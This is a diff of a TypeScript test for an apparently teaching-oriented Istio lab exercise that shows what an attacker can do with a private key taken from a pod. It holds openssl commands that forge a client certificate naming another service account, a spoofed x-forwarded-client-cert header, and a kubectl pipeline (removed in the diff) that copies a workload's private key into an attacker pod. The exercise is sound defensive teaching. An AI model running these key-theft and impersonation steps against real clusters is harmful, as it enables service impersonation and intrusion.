@@ -1,22 +1,26 @@
 import {
   answered,
+  copyKeyScript,
   exercise,
   expiredRefused,
   forbidden,
   handshakeRefused,
   linesOfCall,
+  proxyLogCommand,
   rbacCountersCommand,
+  rbacCountersOf,
   rbacSince,
   readRbacCounters,
   readTlsCounters,
   tlsCountersCommand,
+  type ToldCertificate,
   toldCertificates,
 } from '../../../helpers/index.ts';
 
 const namespace = 'm4-e1-key';
 const identity = (account: string) => `spiffe://cluster.local/ns/${namespace}/sa/${account}`;
 /** The header by which a proxy tells its application who called, written by the caller itself. */
-const forgedHeader = ['-H', `x-forwarded-client-cert: URI=${identity('ceo')}`];
+const claimingToBe = (account: string) => ['-H', `x-forwarded-client-cert: URI=${identity(account)}`];
 const server = 'https://backend:80/';
 /**
  * TLS made by curl instead of a proxy. The server's certificate names an account and no host, so curl is not to check it;
@@ -31,11 +35,6 @@ openssl req -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -subj / -keyout f
 echo subjectAltName=critical,URI:${identity('frontend')} > forged.ext
 openssl x509 -req -in forged.csr -CA root.pem -CAkey root.key -CAcreateserial -days 1 -extfile forged.ext -out forged.crt
 cat forged.crt forged.key > forged.pem`;
-/** Brings certificate and key of a workload from its proxy into the attacker's container; nothing of them is printed. */
-// The key first: the chain of an own authority may end without a line break.
-const copyKey = (workload: string, file: string) => `set -o pipefail
-kubectl exec -n ${namespace} ${workload} -c istio-proxy -- cat /etc/istio/proxy/key.pem /etc/istio/proxy/cert-chain.pem |
-  kubectl exec -i -n ${namespace} pod/attacker -c attacker -- sh -c 'cat > /tmp/${file}'`;
 /** Whom a copied certificate names, how long it lasts, its hash, and whether the key belongs to it. */
 const describe = (file: string) => [
   'sh',
@@ -46,7 +45,7 @@ const isWhole = (account: string) => (text: string) =>
   text.includes(`URI:${identity(account)}\n`) && text.includes('the key belongs to it');
 const tls = ['exec', 'deployment/backend', ...tlsCountersCommand];
 const rbac = ['exec', 'deployment/backend', ...rbacCountersCommand];
-const proxyLog = ['logs', 'deployment/backend', '--container', 'istio-proxy', '--tail=-1'];
+const proxyLog = proxyLogCommand('deployment/backend');
 
 exercise(
   "A certificate of the mesh's root is taken for its account, and no other is",
@@ -54,9 +53,9 @@ exercise(
     persona: 'Sarah Martinez',
     question: 'Our red team took a private key out of a pod. What could they have done with it here, and for how long?',
     proof:
-      'The attacker always makes the same call, past its own proxy, and changes only what it shows. A certificate that it signed itself is refused during the handshake, although it names the frontend; so is a call that shows none. Its own certificate of the mesh is taken, so the way and the tool are in order. Then a policy lets in the account of the frontend alone. The own certificate is refused with 403, also with a forged header. A copy of the key of the frontend, made at that moment, is answered with 200, and the called side names the frontend and the very certificate that was copied. When that certificate has ended, the same call is refused during the handshake, while the frontend itself is answered with its next certificate. The proxy counts each refused handshake with its reason. A connection that was open before the end would go on; this exercise only makes new ones.',
+      'The attacker always makes the same call, past its own proxy, and changes only what it shows. A certificate that it signed itself is refused during the handshake, although it names the frontend and is in order by its own root; so is a call that shows none. Its own certificate of the mesh is taken, so the way and the tool are in order. Then a policy lets in the account of the frontend alone. The own certificate is refused with 403, also with a header that names the admitted account. A copy of the key of the frontend, made at that moment, is answered with 200, and the called side names the frontend and the very certificate that was copied. Then the frontend is seen to show its next certificate, and the copy of the earlier one is answered as before. When the copied certificate has ended, the same call is refused during the handshake, while the frontend itself is answered. The proxy counts each refused handshake with its reason. A connection that was open before the end would go on; this exercise only makes new ones.',
     takeaway:
-      'Whoever holds the key is the account until the certificate ends, and here nothing else ends it: keep that time short, and guard who may enter pods.',
+      'Whoever holds the key is the account until the certificate ends, even when its owner has the next one: keep that time short, and guard who may enter pods.',
     needs: ['k8s', 'sidecar'],
     proves: ['m4.e1.a2', 'm4.e1.a3', 'm4.e1.a6', 'm4.e1.a7', 'm4.e1.a8', 'm4.e1.a9'],
     errata: ['E404', 'E405'],
@@ -67,11 +66,11 @@ exercise(
     const attacker = cluster.client('pod/attacker');
     /** A copy that was made while the certificate was renewed may not be whole, and is made again. */
     const remade = (workload: string, file: string) => ({
-      beforeEachLook: () => cluster.shell(copyKey(workload, file)),
+      beforeEachLook: () => cluster.shell(copyKeyScript(namespace, workload, 'attacker', `/tmp/${file}`)),
       tell: (text: string) => text,
     });
-    const work = cluster.client('deployment/frontend').curl(...forgedHeader, 'http://backend/');
-    const withOwnKey = attacker.curl(...showing('own.pem'), ...forgedHeader, `${server}?call=own-key`);
+    const work = cluster.client('deployment/frontend').curl(...claimingToBe('ceo'), 'http://backend/');
+    const withOwnKey = attacker.curl(...showing('own.pem'), ...claimingToBe('ceo'), `${server}?call=own-key`);
     const withStolenKey = attacker.curl(...showing('stolen.pem'), `${server}?call=stolen-key`);
     const counted = async () => readTlsCounters((await cluster.kubectl(...tls)).stdout);
     /** Makes five calls that are to end in the handshake, and sees that the proxy counts them for this reason. */
@@ -104,6 +103,11 @@ exercise(
       await attacker.run('sh', '-c', forge);
       await attacker.eventually('the forged one names the frontend', describe('forged.pem'), ({ stdout }) =>
         isWhole('frontend')(stdout),
+      );
+      await attacker.eventually(
+        'by the root of the attacker it is a good certificate of a client',
+        ['openssl', 'verify', '-purpose', 'sslclient', '-CAfile', '/tmp/root.pem', '/tmp/forged.crt'],
+        ({ stdout }) => stdout.trim() === '/tmp/forged.crt: OK',
       );
     });
 
@@ -139,9 +143,10 @@ exercise(
     });
 
     await lesson.step('After: the own certificate is refused, for the policy reads it and not the header', async () => {
-      await withOwnKey.settlesOn(forbidden);
-      const before = readRbacCounters((await cluster.kubectl(...rbac)).stdout);
-      await attacker.newConnections(5, ...showing('own.pem'), ...forgedHeader, `${server}?call=five-more`);
+      const asAdmitted = [...showing('own.pem'), ...claimingToBe('frontend')];
+      await attacker.curl(...asAdmitted, `${server}?call=as-admitted`).settlesOn(forbidden);
+      const before = await rbacCountersOf(cluster, 'deployment/backend');
+      await attacker.newConnections(5, ...asAdmitted, `${server}?call=five-more`);
       await cluster.eventually('the called proxy has counted five more refusals, and nothing allowed', rbac, (text) => {
         const since = rbacSince(before, readRbacCounters(text));
         return since.denied === 5 && since.allowed === 0;
@@ -156,6 +161,14 @@ exercise(
     });
 
     let stolenHash = '';
+    const isTheCopy = ({ stolen, told }: { stolen: string; told: readonly ToldCertificate[] }) =>
+      told.length === 1 && told[0]?.caller === identity('frontend') && told[0].hash === stolen && stolen !== '';
+    const showsTheNext = (body: string) => {
+      const [told, ...others] = toldCertificates(body);
+      return (
+        others.length === 0 && told?.caller === identity('frontend') && told.hash !== stolenHash && told.hash !== ''
+      );
+    };
     await lesson.step("A copy of the frontend's key is the frontend, for the policy as well", async () => {
       const described = await cluster.eventually(
         "a copy of the frontend's certificate and key lies in the attacker's pod",
@@ -169,10 +182,26 @@ exercise(
       await lesson.check(
         'the called side was shown that very certificate, and names the frontend as the caller',
         { stolen: stolenHash, told: toldCertificates(http.body) },
-        ({ stolen, told }) =>
-          told.length === 1 && told[0]?.caller === identity('frontend') && told[0].hash === stolen && stolen !== '',
+        isTheCopy,
       );
       await withOwnKey.settlesOn(forbidden);
+    });
+
+    await lesson.step('The frontend gets its next certificate, and the copy is the frontend still', async () => {
+      await cluster.eventually(
+        'the frontend is answered, and shows another certificate than the copied one',
+        ['exec', 'deployment/frontend', '--', 'curl', '--silent', '--max-time', '3', 'http://backend/'],
+        showsTheNext,
+        'kubectl',
+        // It is renewed when half of its minute is over.
+        { settleMs: 50_000, tell: (body) => JSON.stringify(toldCertificates(body)) },
+      );
+      const { http } = await withStolenKey.settlesOn(answered(200, '"pod":"backend-'));
+      await lesson.check(
+        'the called side was shown the copied certificate, and names the frontend as the caller',
+        { stolen: stolenHash, told: toldCertificates(http.body) },
+        isTheCopy,
+      );
     });
 
     await lesson.step('When the copied certificate has ended, the copy is worth nothing', async () => {
@@ -198,11 +227,7 @@ exercise(
       await lesson.check(
         'the frontend itself is answered, and shows another certificate than the copied one',
         { stolen: stolenHash, told: toldCertificates(http.body) },
-        ({ stolen, told }) =>
-          told.length === 1 &&
-          told[0]?.caller === identity('frontend') &&
-          told[0].hash !== stolen &&
-          told[0].hash !== '',
+        () => showsTheNext(http.body),
       );
     });
 
